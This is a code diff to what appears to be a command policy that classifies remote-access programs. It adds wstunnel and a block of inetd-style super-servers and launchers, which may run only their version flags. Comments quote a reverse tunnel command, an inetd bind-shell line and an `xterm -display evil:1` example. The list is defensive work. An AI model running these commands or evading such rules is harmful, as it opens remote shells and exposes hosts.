@@ -39,6 +39,8 @@ export const REMOTE_ACCESS: readonly Program[] = [
       "ptunnel-ng",
       "hans",
       "pwncat-cs",
+      // A websocket tunnel (`wstunnel client -R tcp://2222:localhost:22 wss://H`): a local port out on H (ADR 0663).
+      "wstunnel",
     ],
     base: REMOTE_ACCESS_FX,
   },
@@ -87,6 +89,18 @@ export const REMOTE_ACCESS: readonly Program[] = [
       "redir",
     ],
     base: REMOTE_ACCESS_FX,
+  },
+  // Servers whose purpose is to run a program for whoever connects (docs/adr/0663): the internet super-servers
+  // (`inetd CONF`, `xinetd -f CONF`: a line `9001 stream tcp nowait u /bin/sh sh -i` is a bind shell), the UCSPI
+  // and ipsvd launchers (`tcpserver 0 9001 PROG`, `tcpsvd`), and webhook, which runs the command a hook file names
+  // with the request's fields as its arguments. Only their version and help pages pass.
+  {
+    names: [
+      ...["inetd", "xinetd", "rlinetd", "webhook", "tcpserver", "sslserver", "tcpsvd", "udpsvd"],
+      ...["s6-tcpserver", "s6-tcpserver4", "s6-tcpserver6", "s6-tlsserver"],
+    ],
+    base: REMOTE_ACCESS_FX,
+    rules: [{ flag: ["-version", "--version", "-v", "-V"], maxWords: 0, then: READ, paths: {} }],
   },
   // A terminal shown on another machine's X server: `xterm -display evil:1` hands its shell there.
   {
